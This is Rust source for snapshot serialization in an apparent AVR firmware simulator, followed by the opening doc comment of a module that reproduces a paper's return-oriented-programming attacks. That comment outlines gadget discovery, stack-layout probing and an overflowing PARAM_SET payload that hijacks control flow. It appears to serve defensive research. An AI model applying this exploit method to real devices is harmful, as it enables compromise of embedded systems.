    /// Unknown [`Kind`] byte.
    BadKind(u8),
    /// The blob is a valid snapshot of the wrong kind.
    WrongKind {
        /// Kind the caller expected.
        expected: Kind,
        /// Kind the blob declares.
        found: Kind,
    },
    /// Payload checksum mismatch — the state is corrupt, refuse to load it.
    CrcMismatch {
        /// CRC stored in the blob.
        stored: u32,
        /// CRC computed over the payload.
        computed: u32,
    },
    /// Structurally invalid payload (bad enum tag, page out of range, …).
    Malformed(String),
}

impl std::fmt::Display for SnapshotError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SnapshotError::Truncated { needed, have } => {
                write!(f, "truncated snapshot: needed {needed} bytes, have {have}")
            }
            SnapshotError::BadMagic => write!(f, "not a MAVR snapshot (bad magic)"),
            SnapshotError::UnsupportedVersion(v) => {
                write!(
                    f,
                    "unsupported snapshot version {v} (decoder is v{VERSION})"
                )
            }
            SnapshotError::BadKind(k) => write!(f, "unknown snapshot kind {k}"),
            SnapshotError::WrongKind { expected, found } => {
                write!(
                    f,
                    "wrong snapshot kind: expected {expected:?}, found {found:?}"
                )
            }
            SnapshotError::CrcMismatch { stored, computed } => write!(
                f,
                "snapshot CRC mismatch: stored {stored:#010x}, computed {computed:#010x}"
            ),
            SnapshotError::Malformed(why) => write!(f, "malformed snapshot: {why}"),
        }
    }
}

impl std::error::Error for SnapshotError {}

// ---- CRC32 (IEEE 802.3, table-driven) ----

const fn build_crc_table() -> [u32; 256] {
    let mut table = [0u32; 256];
    let mut n = 0;
    while n < 256 {
        let mut c = n as u32;
        let mut k = 0;
        while k < 8 {
            c = if c & 1 != 0 {
                0xedb8_8320 ^ (c >> 1)
            } else {
                c >> 1
            };
            k += 1;
        }
        table[n] = c;
        n += 1;
    }
    table
}

static CRC_TABLE: [u32; 256] = build_crc_table();

/// IEEE CRC-32 over `bytes` (the `cksum -o3`/zlib polynomial).
pub fn crc32(bytes: &[u8]) -> u32 {
    let mut c = 0xffff_ffffu32;
    for &b in bytes {
        c = CRC_TABLE[((c ^ u32::from(b)) & 0xff) as usize] ^ (c >> 8);
    }
    c ^ 0xffff_ffff
}

// ---- payload writer / reader ----

/// Little-endian payload builder; [`Writer::finish`] wraps the payload in
/// the header + CRC framing.
#[derive(Debug, Default)]
pub struct Writer {
    buf: Vec<u8>,
}

impl Writer {
    /// An empty payload.
    pub fn new() -> Self {
        Writer::default()
    }

    /// Append one byte.
    pub fn put_u8(&mut self, v: u8) {
        self.buf.push(v);
    }

    /// Append a little-endian u16.
    pub fn put_u16(&mut self, v: u16) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Append a little-endian u32.
    pub fn put_u32(&mut self, v: u32) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Append a little-endian u64.
    pub fn put_u64(&mut self, v: u64) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Append a bool as one byte (0 or 1).
    pub fn put_bool(&mut self, v: bool) {
        self.buf.push(u8::from(v));
    }

    /// Append a length-prefixed byte string.
    pub fn put_bytes(&mut self, v: &[u8]) {
        self.put_u64(v.len() as u64);
        self.buf.extend_from_slice(v);
    }

    /// Append raw bytes with no length prefix (fixed-size runs like pages).
    pub fn put_raw(&mut self, v: &[u8]) {
        self.buf.extend_from_slice(v);
    }

    /// Wrap the payload into a complete snapshot blob of the given kind.
    pub fn finish(self, kind: Kind) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.buf.len() + 23);
        out.extend_from_slice(MAGIC);
        out.extend_from_slice(&VERSION.to_le_bytes());
        out.push(kind.to_u8());
        out.extend_from_slice(&(self.buf.len() as u64).to_le_bytes());
        let crc = crc32(&self.buf);
        out.extend_from_slice(&self.buf);
        out.extend_from_slice(&crc.to_le_bytes());
        out
    }
}

/// Bounds-checked little-endian payload cursor. Carries the blob's
/// declared format version so payload decoders can gate fields that were
/// appended in later versions.
#[derive(Debug)]
pub struct Reader<'a> {
    buf: &'a [u8],
    pos: usize,
    version: u16,
}

impl<'a> Reader<'a> {
    /// Validate the framing of `blob` — magic, version, kind byte, payload
    /// length, CRC — and return its kind plus a cursor over the payload.
    pub fn open(blob: &'a [u8]) -> Result<(Kind, Reader<'a>), SnapshotError> {
        if blob.len() < MAGIC.len() {
            return Err(SnapshotError::Truncated {
                needed: MAGIC.len(),
                have: blob.len(),
            });
        }
        if &blob[..MAGIC.len()] != MAGIC {
            return Err(SnapshotError::BadMagic);
        }
        let header = MAGIC.len() + 2 + 1 + 8;
        if blob.len() < header {
            return Err(SnapshotError::Truncated {
                needed: header,
                have: blob.len(),
            });
        }
        let version = u16::from_le_bytes([blob[8], blob[9]]);
        if version > VERSION {
            return Err(SnapshotError::UnsupportedVersion(version));
        }
        let kind = Kind::from_u8(blob[10]).ok_or(SnapshotError::BadKind(blob[10]))?;
        let len = u64::from_le_bytes(blob[11..19].try_into().expect("8 bytes")) as usize;
        let total = header + len + 4;
        if blob.len() < total {
            return Err(SnapshotError::Truncated {
                needed: total,
                have: blob.len(),
            });
        }
        let payload = &blob[header..header + len];
        let stored = u32::from_le_bytes(
            blob[header + len..header + len + 4]
                .try_into()
                .expect("4 bytes"),
        );
        let computed = crc32(payload);
        if stored != computed {
            return Err(SnapshotError::CrcMismatch { stored, computed });
        }
        Ok((
            kind,
            Reader {
                buf: payload,
                pos: 0,
                version,
            },
        ))
    }

    /// The format version the blob declares (`<=` [`VERSION`]).
    pub fn version(&self) -> u16 {
        self.version
    }

    /// Like [`Reader::open`], additionally requiring the blob's kind.
    pub fn open_expecting(blob: &'a [u8], expected: Kind) -> Result<Reader<'a>, SnapshotError> {
        let (kind, r) = Reader::open(blob)?;
        if kind != expected {
            return Err(SnapshotError::WrongKind {
                expected,
                found: kind,
            });
        }
        Ok(r)
    }

    fn take(&mut self, n: usize) -> Result<&'a [u8], SnapshotError> {
        let have = self.buf.len() - self.pos;
        if have < n {
            return Err(SnapshotError::Truncated { needed: n, have });
        }
        let s = &self.buf[self.pos..self.pos + n];
        self.pos += n;
        Ok(s)
    }

    /// Read one byte.
    pub fn u8(&mut self) -> Result<u8, SnapshotError> {
        Ok(self.take(1)?[0])
    }

    /// Read a little-endian u16.
    pub fn u16(&mut self) -> Result<u16, SnapshotError> {
        Ok(u16::from_le_bytes(self.take(2)?.try_into().expect("2")))
    }

    /// Read a little-endian u32.
    pub fn u32(&mut self) -> Result<u32, SnapshotError> {
        Ok(u32::from_le_bytes(self.take(4)?.try_into().expect("4")))
    }

    /// Read a little-endian u64.
    pub fn u64(&mut self) -> Result<u64, SnapshotError> {
        Ok(u64::from_le_bytes(self.take(8)?.try_into().expect("8")))
    }

    /// Read a bool byte, rejecting anything but 0 or 1.
    pub fn bool(&mut self) -> Result<bool, SnapshotError> {
        match self.u8()? {
            0 => Ok(false),
            1 => Ok(true),
            v => Err(SnapshotError::Malformed(format!("bool byte {v}"))),
        }
    }

    /// Read a length-prefixed byte string.
    pub fn bytes(&mut self) -> Result<Vec<u8>, SnapshotError> {
        let len = self.u64()? as usize;
        Ok(self.take(len)?.to_vec())
    }

    /// Read `n` raw bytes (fixed-size runs like pages).
    pub fn raw(&mut self, n: usize) -> Result<&'a [u8], SnapshotError> {
        self.take(n)
    }

    /// Assert the payload is fully consumed (trailing garbage is an error:
    /// it means the decoder and encoder disagree about the layout).
    pub fn done(&self) -> Result<(), SnapshotError> {
        if self.pos != self.buf.len() {
            return Err(SnapshotError::Malformed(format!(
                "{} trailing payload bytes",
                self.buf.len() - self.pos
            )));
        }
        Ok(())
    }
}

// ---- fault encoding ----

fn put_fault(w: &mut Writer, f: Option<Fault>) {
    match f {
        None => w.put_u8(0),
        Some(Fault::InvalidOpcode { addr, word }) => {
            w.put_u8(1);
            w.put_u32(addr);
            w.put_u16(word);
        }
        Some(Fault::PcOutOfBounds { pc }) => {
            w.put_u8(2);
            w.put_u32(pc);
        }
        Some(Fault::Break { addr }) => {
            w.put_u8(3);
            w.put_u32(addr);
        }
        Some(Fault::StackOutOfBounds { sp }) => {
            w.put_u8(4);
            w.put_u16(sp);
        }
        Some(Fault::DataOutOfBounds { addr }) => {
            w.put_u8(5);
            w.put_u32(addr);
        }
        Some(Fault::WatchdogTimeout) => w.put_u8(6),
    }
}

fn get_fault(r: &mut Reader<'_>) -> Result<Option<Fault>, SnapshotError> {
    Ok(match r.u8()? {
        0 => None,
        1 => Some(Fault::InvalidOpcode {
            addr: r.u32()?,
            word: r.u16()?,
        }),
        2 => Some(Fault::PcOutOfBounds { pc: r.u32()? }),
        3 => Some(Fault::Break { addr: r.u32()? }),
        4 => Some(Fault::StackOutOfBounds { sp: r.u16()? }),
        5 => Some(Fault::DataOutOfBounds { addr: r.u32()? }),
        6 => Some(Fault::WatchdogTimeout),
        t => return Err(SnapshotError::Malformed(format!("fault tag {t}"))),
    })
}

// ---- peripheral / core field groups ----

/// The small (non-memory-array) part of a machine state: CPU registers of
/// the core proper plus every peripheral. Shared by full and delta
/// payloads.
fn put_machine_core(w: &mut Writer, s: &MachineState) {
    w.put_u32(s.pc);
    w.put_u64(s.cycles);
    put_fault(w, s.fault);
    w.put_bool(s.irq_delay);
    w.put_u64(s.insns_retired);
    w.put_u64(s.interrupts_taken);
    // UART.
    w.put_bytes(&s.uart0.rx);
    w.put_bytes(&s.uart0.tx);
    w.put_u64(s.uart0.rx_bytes);
    w.put_u64(s.uart0.tx_bytes);
    // Heartbeat.
    w.put_u64(s.heartbeat.toggles.len() as u64);
    for &t in &s.heartbeat.toggles {
        w.put_u64(t);
    }
    w.put_bool(s.heartbeat.last_level);
    // Watchdog.
    w.put_bool(s.watchdog.timeout.is_some());
    w.put_u64(s.watchdog.timeout.unwrap_or(0));
    w.put_u64(s.watchdog.last_reset);
    // Timer0.
    w.put_u8(s.timer0.tcnt);
    w.put_u8(s.timer0.tccr_b);
    w.put_u8(s.timer0.timsk);
    w.put_u8(s.timer0.tifr);
    w.put_u64(s.timer0.residual);
    // ADC (v3+).
    w.put_u8(s.adc.admux);
    w.put_u8(s.adc.control);
    w.put_u8(s.adc.adcsrb);
    w.put_u16(s.adc.data);
    w.put_bool(s.adc.converting.is_some());
    w.put_u64(s.adc.converting.unwrap_or(0));
    w.put_bool(s.adc.adif);
    w.put_bool(s.adc.first);
    for ch in s.adc.channels {
        w.put_u16(ch);
    }
    // PWM compare latches and the PORTB output latch (v3+).
    w.put_u8(s.pwm.ocr0a);
    w.put_u8(s.pwm.ocr0b);
    w.put_u8(s.portb);
}

fn get_machine_core(r: &mut Reader<'_>, s: &mut MachineState) -> Result<(), SnapshotError> {
    s.pc = r.u32()?;
    s.cycles = r.u64()?;
    s.fault = get_fault(r)?;
    s.irq_delay = r.bool()?;
    s.insns_retired = r.u64()?;
    s.interrupts_taken = r.u64()?;
    s.uart0 = UartState {
        rx: r.bytes()?,
        tx: r.bytes()?,
        rx_bytes: r.u64()?,
        tx_bytes: r.u64()?,
    };
    let n = r.u64()? as usize;
    let mut toggles = Vec::with_capacity(n.min(1 << 20));
    for _ in 0..n {
        toggles.push(r.u64()?);
    }
    s.heartbeat = HeartbeatState {
        toggles,
        last_level: r.bool()?,
    };
    let enabled = r.bool()?;
    let timeout = r.u64()?;
    s.watchdog = WatchdogState {
        timeout: enabled.then_some(timeout),
        last_reset: r.u64()?,
    };
    s.timer0 = Timer0State {
        tcnt: r.u8()?,
        tccr_b: r.u8()?,
        timsk: r.u8()?,
        tifr: r.u8()?,
        residual: r.u64()?,
    };
    if r.version() >= 3 {
        let admux = r.u8()?;
        let control = r.u8()?;
        let adcsrb = r.u8()?;
        let data = r.u16()?;
        let in_flight = r.bool()?;
        let left = r.u64()?;
        let adif = r.bool()?;
        let first = r.bool()?;
        let mut channels = [0u16; avr_sim::adc::ADC_CHANNELS];
        for ch in &mut channels {
            *ch = r.u16()?;
        }
        s.adc = AdcState {
            admux,
            control,
            adcsrb,
            data,
            converting: in_flight.then_some(left),
            adif,
            first,
            channels,
        };
        s.pwm = Pwm {
            ocr0a: r.u8()?,
            ocr0b: r.u8()?,
        };
        s.portb = r.u8()?;
    }
    // v2 blobs predate the physical-world peripherals: `s` keeps its
    // defaults (or, for deltas, the keyframe's values). The PORTB latch is
    // backfilled from the data image by the callers that have one.
    Ok(())
}

fn put_eeprom(w: &mut Writer, e: &EepromState) {
    w.put_bytes(&e.bytes);
    w.put_u16(e.addr);
    w.put_u8(e.data);
    w.put_bool(e.master_enable);
    w.put_u64(e.writes);
}

fn get_eeprom(r: &mut Reader<'_>) -> Result<EepromState, SnapshotError> {
    Ok(EepromState {
        bytes: r.bytes()?,
        addr: r.u16()?,
        data: r.u8()?,
        master_enable: r.bool()?,
        writes: r.u64()?,
    })
}

fn empty_machine_state() -> MachineState {
    MachineState {
        flash: Vec::new(),
        data: Vec::new(),
        eeprom: EepromState::default(),
        pc: 0,
        cycles: 0,
        fault: None,
        irq_delay: false,
        uart0: UartState::default(),
        heartbeat: HeartbeatState::default(),
        watchdog: WatchdogState::default(),
        timer0: Timer0State::default(),
        adc: AdcState::default(),
        pwm: Pwm::default(),
        portb: 0,
        insns_retired: 0,
        interrupts_taken: 0,
    }
}

fn put_machine_state(w: &mut Writer, s: &MachineState) {
    put_machine_core(w, s);
    w.put_bytes(&s.flash);
    w.put_bytes(&s.data);
    put_eeprom(w, &s.eeprom);
}

fn get_machine_state(r: &mut Reader<'_>) -> Result<MachineState, SnapshotError> {
    let mut s = empty_machine_state();
    get_machine_core(r, &mut s)?;
    s.flash = r.bytes()?;
    s.data = r.bytes()?;
    s.eeprom = get_eeprom(r)?;
    if r.version() < 3 {
        // v2 encoders kept the PORTB latch only in the data image.
        if let Some(&v) = s.data.get(usize::from(PORTB_ADDR)) {
            s.portb = v;
        }
    }
    Ok(s)
}

// ---- public encoders / decoders ----

/// Encode a complete machine state as one snapshot blob.
pub fn encode_machine(s: &MachineState) -> Vec<u8> {
    let mut w = Writer::new();
    put_machine_state(&mut w, s);
    w.finish(Kind::MachineFull)
}

/// Decode a [`Kind::MachineFull`] blob.
pub fn decode_machine(blob: &[u8]) -> Result<MachineState, SnapshotError> {
    let mut r = Reader::open_expecting(blob, Kind::MachineFull)?;
    let s = get_machine_state(&mut r)?;
    r.done()?;
    Ok(s)
}

/// Encode a delta snapshot: the machine's small state plus only the
/// 256-byte data/flash pages (and the EEPROM, if touched) dirtied since
/// the last [`Machine::clear_dirty`]. Costs pages-touched, not image-size:
/// on a quiet machine this is a few KiB against a ~270 KiB full snapshot.
///
/// `base_cycles` stamps the keyframe this delta is relative to;
/// [`apply_machine_delta`] refuses to apply it to any other keyframe.
pub fn encode_machine_delta(m: &Machine, base_cycles: u64) -> Vec<u8> {
    let mut w = Writer::new();
    w.put_u64(base_cycles);
    put_machine_core(&mut w, &core_of(m));
    let data_pages = m.dirty_data_pages();
    w.put_u32(data_pages.len() as u32);
    for p in data_pages {
        let start = p * DIRTY_PAGE_SIZE;
        w.put_u32(p as u32);
        w.put_raw(&m.peek_range(start as u16, DIRTY_PAGE_SIZE));
    }
    let flash = m.flash();
    let flash_pages = m.dirty_flash_pages();
    w.put_u32(flash_pages.len() as u32);
    for p in flash_pages {
        let start = p * DIRTY_PAGE_SIZE;
        w.put_u32(p as u32);
        w.put_raw(&flash[start..start + DIRTY_PAGE_SIZE]);
    }
    let eeprom_dirty = m.eeprom.dirty();
    w.put_bool(eeprom_dirty);
    if eeprom_dirty {
        put_eeprom(&mut w, &m.eeprom.state());
    }
    w.finish(Kind::MachineDelta)
}

/// The non-array part of a machine's current state, captured without
/// cloning the memories.
fn core_of(m: &Machine) -> MachineState {
    MachineState {
        flash: Vec::new(),
        data: Vec::new(),
        eeprom: EepromState::default(),
        pc: m.pc(),
        cycles: m.cycles(),
        fault: m.fault(),
        irq_delay: m.irq_delay_pending(),
        uart0: m.uart0.state(),
        heartbeat: m.heartbeat.state(),
        watchdog: m.watchdog.state(),
        timer0: m.timer0.state(),
        adc: m.adc.state(),
        pwm: m.pwm,
        portb: m.portb.value,
        insns_retired: m.insns_retired,
        interrupts_taken: m.interrupts_taken,
    }
}

/// Reconstruct a full machine state from `keyframe` plus a
/// [`Kind::MachineDelta`] blob captured after it.
pub fn apply_machine_delta(
    keyframe: &MachineState,
    blob: &[u8],
) -> Result<MachineState, SnapshotError> {
    let mut r = Reader::open_expecting(blob, Kind::MachineDelta)?;
    let base = r.u64()?;
    if base != keyframe.cycles {
        return Err(SnapshotError::Malformed(format!(
            "delta is relative to cycle {base}, keyframe is at {}",
            keyframe.cycles
        )));
    }
    let mut s = keyframe.clone();
    get_machine_core(&mut r, &mut s)?;
    for (what, arr) in [("data", &mut s.data), ("flash", &mut s.flash)] {
        let n = r.u32()? as usize;
        for _ in 0..n {
            let p = r.u32()? as usize;
            let start = p * DIRTY_PAGE_SIZE;
            let page = r.raw(DIRTY_PAGE_SIZE)?;
            let end = start + DIRTY_PAGE_SIZE;
            if end > arr.len() {
                return Err(SnapshotError::Malformed(format!(
                    "{what} page {p} past end ({end} > {})",
                    arr.len()
                )));
            }
            arr[start..end].copy_from_slice(page);
        }
    }
    if r.bool()? {
        s.eeprom = get_eeprom(&mut r)?;
    }
    if r.version() < 3 {
        // As in full decodes: the v2 latch of record is the data image.
        if let Some(&v) = s.data.get(usize::from(PORTB_ADDR)) {
            s.portb = v;
        }
    }
    r.done()?;
    Ok(s)
}

/// Encode a complete board state as one snapshot blob.
pub fn encode_board(s: &BoardState) -> Vec<u8> {
    let mut w = Writer::new();
    put_machine_state(&mut w, &s.app);
    w.put_bool(s.app_locked);
    for word in s.master_rng {
        w.put_u64(word);
    }
    w.put_u32(s.boot_count);
    w.put_u32(s.wear_cycles);
    w.put_u64(s.watch_since);
    w.put_u64(s.heartbeat_timeout);
    for word in s.chaos.rng {
        w.put_u64(word);
    }
    w.put_u64(s.chaos.injected);
    w.put_u64(s.reflash_retries);
    w.put_u64(s.degraded_boots);
    w.finish(Kind::Board)
}

/// Decode a [`Kind::Board`] blob.
pub fn decode_board(blob: &[u8]) -> Result<BoardState, SnapshotError> {
    let mut r = Reader::open_expecting(blob, Kind::Board)?;
    let app = get_machine_state(&mut r)?;
    let app_locked = r.bool()?;
    let mut master_rng = [0u64; 4];
    for word in &mut master_rng {
        *word = r.u64()?;
    }
    let boot_count = r.u32()?;
    let wear_cycles = r.u32()?;
    let watch_since = r.u64()?;
    let heartbeat_timeout = r.u64()?;
    let mut chaos_rng = [0u64; 4];
    for word in &mut chaos_rng {
        *word = r.u64()?;
    }
    let s = BoardState {
        app,
        app_locked,
        master_rng,
        boot_count,
        wear_cycles,
        watch_since,
        heartbeat_timeout,
        chaos: mavr_board::ChaosState {
            rng: chaos_rng,
            injected: r.u64()?,
        },
        reflash_retries: r.u64()?,
        degraded_boots: r.u64()?,
    };
    r.done()?;
    Ok(s)
}

/// Encode a physical-world state ([`mavr_world::WorldState`]) as one
/// snapshot blob. Floats are stored as their exact IEEE-754 bit
/// patterns, so a decoded world resumes bit-identically.
pub fn encode_world(s: &mavr_world::WorldState) -> Vec<u8> {
    let mut w = Writer::new();
    w.put_u8(s.scenario);
    for v in s.pos.iter().chain(&s.vel).chain(&s.att).chain(&s.omega) {
        w.put_u64(v.to_bits());
    }
    for word in s.rng {
        w.put_u64(word);
    }
    w.put_u64(s.steps);
    w.put_u64(s.peak_alt_err.to_bits());
    w.put_u32(s.ground_impacts);
    w.put_bool(s.grounded);
    w.finish(Kind::World)
}

/// Decode a [`Kind::World`] blob.
pub fn decode_world(blob: &[u8]) -> Result<mavr_world::WorldState, SnapshotError> {
    let mut r = Reader::open_expecting(blob, Kind::World)?;
    let scenario = r.u8()?;
    let f = |r: &mut Reader| -> Result<f64, SnapshotError> { Ok(f64::from_bits(r.u64()?)) };
    let pos = [f(&mut r)?, f(&mut r)?, f(&mut r)?];
    let vel = [f(&mut r)?, f(&mut r)?, f(&mut r)?];
    let att = [f(&mut r)?, f(&mut r)?, f(&mut r)?, f(&mut r)?];
    let omega = [f(&mut r)?, f(&mut r)?, f(&mut r)?];
    let mut rng = [0u64; 4];
    for word in &mut rng {
        *word = r.u64()?;
    }
    let s = mavr_world::WorldState {
        scenario,
        pos,
        vel,
        att,
        omega,
        rng,
        steps: r.u64()?,
        peak_alt_err: f64::from_bits(r.u64()?),
        ground_impacts: r.u32()?,
        grounded: r.bool()?,
    };
    r.done()?;
    Ok(s)
}

#[cfg(test)]
mod tests {
    use super::*;
    use avr_core::encode::encode_to_bytes;
    use avr_core::{Insn, Reg};

    fn busy_machine() -> Machine {
        let mut m = Machine::new_atmega2560();
        // ldi r24,1 ; sts 0x0400 ; inc ; rjmp -3 — touches SRAM forever.
        m.load_flash(
            0,
            &encode_to_bytes(&[
                Insn::Ldi { d: Reg::R24, k: 1 },
                Insn::Sts {
                    k: 0x0400,
                    r: Reg::R24,
                },
                Insn::Inc { d: Reg::R24 },
                Insn::Rjmp { k: -4 },
            ])
            .unwrap(),
        );
        m.uart0.inject(&[1, 2, 3]);
        m.watchdog.enable(1_000_000, 0);
        m.run(5_000);
        m
    }

    #[test]
    fn machine_round_trip_is_exact() {
        let m = busy_machine();
        let state = m.capture_state();
        let blob = encode_machine(&state);
        assert_eq!(decode_machine(&blob).unwrap(), state);
    }

    #[test]
    fn board_round_trip_is_exact() {
        use mavr::policy::RandomizationPolicy;
        use synth_firmware::{apps, build, BuildOptions};
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
        let mut board =
            mavr_board::MavrBoard::provision(&fw.image, 7, RandomizationPolicy::default()).unwrap();
        board.run(500_000).unwrap();
        let state = board.capture_state();
        let blob = encode_board(&state);
        assert_eq!(decode_board(&blob).unwrap(), state);
    }

    #[test]
    fn corruption_is_detected() {
        let m = busy_machine();
        let mut blob = encode_machine(&m.capture_state());
        let mid = blob.len() / 2;
        blob[mid] ^= 0x40;
        assert!(matches!(
            decode_machine(&blob),
            Err(SnapshotError::CrcMismatch { .. })
        ));
    }

    #[test]
    fn framing_errors_are_loud() {
        let m = busy_machine();
        let blob = encode_machine(&m.capture_state());
        // Truncation at every interesting boundary.
        for cut in [0, 4, 10, 18, blob.len() - 1] {
            assert!(matches!(
                decode_machine(&blob[..cut]),
                Err(SnapshotError::Truncated { .. })
            ));
        }
        // Bad magic.
        let mut bad = blob.clone();
        bad[0] = b'X';
        assert_eq!(decode_machine(&bad), Err(SnapshotError::BadMagic));
        // Future version.
        let mut bad = blob.clone();
        bad[8] = 0xff;
        assert!(matches!(
            decode_machine(&bad),
            Err(SnapshotError::UnsupportedVersion(_))
        ));
        // Unknown kind byte.
        let mut bad = blob.clone();
        bad[10] = 9;
        assert_eq!(decode_machine(&bad), Err(SnapshotError::BadKind(9)));
        // Wrong (but valid) kind.
        let board_kind = Writer::new().finish(Kind::Checkpoint);
        assert!(matches!(
            decode_machine(&board_kind),
            Err(SnapshotError::WrongKind { .. })
        ));
    }

    #[test]
    fn delta_reconstructs_full_state_and_is_smaller() {
        let mut m = busy_machine();
        let keyframe = m.capture_state();
        m.clear_dirty();
        m.run(20_000);
        let delta = encode_machine_delta(&m, keyframe.cycles);
        let full = encode_machine(&m.capture_state());
        let rebuilt = apply_machine_delta(&keyframe, &delta).unwrap();
        assert_eq!(rebuilt, m.capture_state());
        assert!(
            delta.len() * 10 < full.len(),
            "delta ({}) should be far smaller than full ({})",
            delta.len(),
            full.len()
        );
    }

    #[test]
    fn delta_refuses_wrong_keyframe() {
        let mut m = busy_machine();
        let keyframe = m.capture_state();
        m.clear_dirty();
        m.run(10_000);
        let delta = encode_machine_delta(&m, keyframe.cycles);
        let mut other = keyframe.clone();
        other.cycles += 1;
        assert!(matches!(
            apply_machine_delta(&other, &delta),
            Err(SnapshotError::Malformed(_))
        ));
    }

    #[test]
    fn restore_from_decoded_blob_runs_identically() {
        let mut a = busy_machine();
        let blob = encode_machine(&a.capture_state());
        let mut b = Machine::new_atmega2560();
        b.restore_state(&decode_machine(&blob).unwrap());
        a.run(50_000);
        b.run(50_000);
        assert_eq!(a.capture_state(), b.capture_state());
    }

    /// The exact v2 `put_machine_core` layout: everything up to and
    /// including Timer0, none of the physical-world peripherals.
    fn put_machine_core_v2(w: &mut Writer, s: &MachineState) {
        w.put_u32(s.pc);
        w.put_u64(s.cycles);
        put_fault(w, s.fault);
        w.put_bool(s.irq_delay);
        w.put_u64(s.insns_retired);
        w.put_u64(s.interrupts_taken);
        w.put_bytes(&s.uart0.rx);
        w.put_bytes(&s.uart0.tx);
        w.put_u64(s.uart0.rx_bytes);
        w.put_u64(s.uart0.tx_bytes);
        w.put_u64(s.heartbeat.toggles.len() as u64);
        for &t in &s.heartbeat.toggles {
            w.put_u64(t);
        }
        w.put_bool(s.heartbeat.last_level);
        w.put_bool(s.watchdog.timeout.is_some());
        w.put_u64(s.watchdog.timeout.unwrap_or(0));
        w.put_u64(s.watchdog.last_reset);
        w.put_u8(s.timer0.tcnt);
        w.put_u8(s.timer0.tccr_b);
        w.put_u8(s.timer0.timsk);
        w.put_u8(s.timer0.tifr);
        w.put_u64(s.timer0.residual);
    }

    /// Stamp a freshly framed blob as an older version. The CRC covers the
    /// payload only, so rewriting the header version keeps the blob valid.
    fn stamp_version(mut blob: Vec<u8>, version: u16) -> Vec<u8> {
        blob[8..10].copy_from_slice(&version.to_le_bytes());
        blob
    }

    fn encode_machine_v2(s: &MachineState) -> Vec<u8> {
        let mut w = Writer::new();
        put_machine_core_v2(&mut w, s);
        w.put_bytes(&s.flash);
        w.put_bytes(&s.data);
        put_eeprom(&mut w, &s.eeprom);
        stamp_version(w.finish(Kind::MachineFull), 2)
    }

    #[test]
    fn v2_machine_blob_still_round_trips() {
        let m = busy_machine();
        let mut state = m.capture_state();
        // A v2 writer never carried the PORTB latch as its own field; it
        // lived only in the data image.
        state.data[usize::from(PORTB_ADDR)] = 0xa5;
        let got = decode_machine(&encode_machine_v2(&state)).unwrap();
        assert_eq!(got.portb, 0xa5, "latch backfilled from the data image");
        assert_eq!(got.adc, AdcState::default());
        assert_eq!(got.pwm, Pwm::default());
        let mut expect = state;
        expect.portb = 0xa5;
        assert_eq!(got, expect);
    }

    #[test]
    fn v2_board_blob_still_round_trips() {
        use mavr::policy::RandomizationPolicy;
        use synth_firmware::{apps, build, BuildOptions};
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
        let mut board =
            mavr_board::MavrBoard::provision(&fw.image, 11, RandomizationPolicy::default())
                .unwrap();
        board.run(500_000).unwrap();
        let state = board.capture_state();

        let mut w = Writer::new();
        put_machine_core_v2(&mut w, &state.app);
        w.put_bytes(&state.app.flash);
        w.put_bytes(&state.app.data);
        put_eeprom(&mut w, &state.app.eeprom);
        w.put_bool(state.app_locked);
        for word in state.master_rng {
            w.put_u64(word);
        }
        w.put_u32(state.boot_count);
        w.put_u32(state.wear_cycles);
        w.put_u64(state.watch_since);
        w.put_u64(state.heartbeat_timeout);
        for word in state.chaos.rng {
            w.put_u64(word);
        }
        w.put_u64(state.chaos.injected);
        w.put_u64(state.reflash_retries);
        w.put_u64(state.degraded_boots);
        let blob = stamp_version(w.finish(Kind::Board), 2);

        let got = decode_board(&blob).unwrap();
        // The heartbeat firmware drives PORTB, so the board's latch is
        // live — the v2 data image must reproduce it exactly.
        assert_eq!(got.app.portb, state.app.portb);
        assert_eq!(
            got.app.portb,
            state.app.data[usize::from(PORTB_ADDR)],
            "latch and data image agree"
        );
        assert_eq!(got, state);
    }

    #[test]
    fn world_state_round_trips_and_resumes_bit_identically() {
        use mavr_world::{Scenario, World};
        let mut w = World::new(Scenario::Turbulent, 0x5eed);
        for i in 0..300u32 {
            let _ = w.sample();
            w.step(0.55, if i % 5 == 0 { 0.02 } else { 0.0 });
        }
        let state = w.state();
        let blob = encode_world(&state);
        assert_eq!(decode_world(&blob).unwrap(), state);

        // A world restored from the decoded blob continues exactly in
        // step with one restored from the live state.
        let mut a = World::restore(&state).unwrap();
        let mut b = World::restore(&decode_world(&blob).unwrap()).unwrap();
        for _ in 0..100 {
            assert_eq!(a.sample(), b.sample());
            a.step(0.5, 0.0);
            b.step(0.5, 0.0);
        }
        assert_eq!(a.state(), b.state());

        // Kind mismatches are rejected before any payload is read.
        assert!(matches!(
            decode_board(&blob),
            Err(SnapshotError::WrongKind { .. })
        ));
    }

    #[test]
    fn crc32_matches_known_vector() {
        // The classic IEEE test vector.
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
        assert_eq!(crc32(b""), 0);
    }
}
