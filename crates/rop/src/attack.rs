//! The paper's three ROP attacks, built programmatically against a concrete
//! firmware image (§IV).
//!
//! The attacker's workflow, reproduced faithfully:
//!
//! 1. **Static analysis** of the unprotected image: find the `stk_move` and
//!    `write_mem` gadgets ([`crate::scanner::classify`]).
//! 2. **Dry run** on the attacker's own copy of the firmware
//!    ([`AttackContext::discover`]): send a benign PARAM_SET, break at the
//!    vulnerable handler, and record the deterministic stack geometry —
//!    where the buffer sits, where the saved registers and the 3-byte
//!    return address live, and what their original values are.
//! 3. **Payload construction**: an oversized PARAM_SET payload that the
//!    vulnerable copy loop writes across the handler's stack frame. The
//!    overwritten saved registers and return address redirect the epilogue
//!    into a gadget chain built from exactly the two gadgets of
//!    Figs. 4 and 5.
//!
//! The chain formats follow the paper:
//! * **V1** ([`AttackContext::v1_payload`]) writes 3 bytes anywhere, then
//!   crashes (the stack frame is destroyed — §IV-C).
//! * **V2** ([`AttackContext::v2_payload`]) performs its writes, then
//!   *repairs* the saved registers and return address with the same
//!   `write_mem_gadget` and moves SP back with `stk_move`, so the victim
//!   continues executing ("clean return", §IV-D, Fig. 6).
//! * **V3** ([`AttackContext::v3_packets`]) uses the trampoline technique
